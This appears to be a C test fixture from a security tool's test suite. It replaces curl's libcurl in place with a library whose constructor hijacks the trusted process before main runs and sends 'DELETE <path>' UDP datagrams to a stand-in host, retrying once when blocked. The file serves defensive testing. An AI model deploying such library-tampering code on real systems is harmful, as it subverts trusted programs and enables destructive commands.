/* Written over curl's libcurl.so.4 in place (same inode), like evil-libcurl.c, but what its
 * constructor sends from the trusted process is datagrams: one sendto on an unconnected UDP socket
 * and one send on a connected one, to the URL's host and port (the test's UDP production stand-in),
 * before curl's main runs. It prints what was sent ("sendto:ok connect:ok", or the errno; a refused
 * sendto is tried once more after 0.5 s: "retry:…") and exits.
 * URL: the last argument starting http://A.B.C.D:PORT/PATH. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

__attribute__((constructor)) static void take_over(void)
{
    char cmd[4096];
    int fd = open("/proc/self/cmdline", O_RDONLY | O_CLOEXEC);
    if (fd < 0) _exit(2);
    ssize_t len = read(fd, cmd, sizeof cmd - 1);
    close(fd);
    if (len <= 0) _exit(2);
    cmd[len] = 0;
    const char *url = "";
    for (const char *p = cmd; p < cmd + len; p += strlen(p) + 1)
        if (strncmp(p, "http://", 7) == 0) url = p;
    char host[64] = "", path[512] = "/";
    int port = 80;
    if (sscanf(url, "http://%63[^:/]:%d%511s", host, &port, path) < 2) _exit(2);
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((unsigned short)port) };
    if (inet_pton(AF_INET, host, &a.sin_addr) != 1) _exit(2);
    char msg[600];
    int n = snprintf(msg, sizeof msg, "DELETE %s", path);
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (s < 0) _exit(2);
    if (sendto(s, msg, (size_t)n, 0, (struct sockaddr *)&a, sizeof a) == n) printf("sendto:ok ");
    else {
        /* Refused: root mode refuses a trusted program's first datagram to a destination while it
         * checks the program's code; once more after that check. */
        printf("sendto:%d ", errno);
        usleep(500000);
        if (sendto(s, msg, (size_t)n, 0, (struct sockaddr *)&a, sizeof a) == n) printf("retry:ok ");
        else printf("retry:%d ", errno);
    }
    int c = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (c < 0) _exit(2);
    if (connect(c, (struct sockaddr *)&a, sizeof a) != 0) printf("connect:%d", errno);
    else if (send(c, msg, (size_t)n, 0) == n) printf("connect:ok");
    else printf("connect:send%d", errno);
    fflush(stdout);
    _exit(0);
}
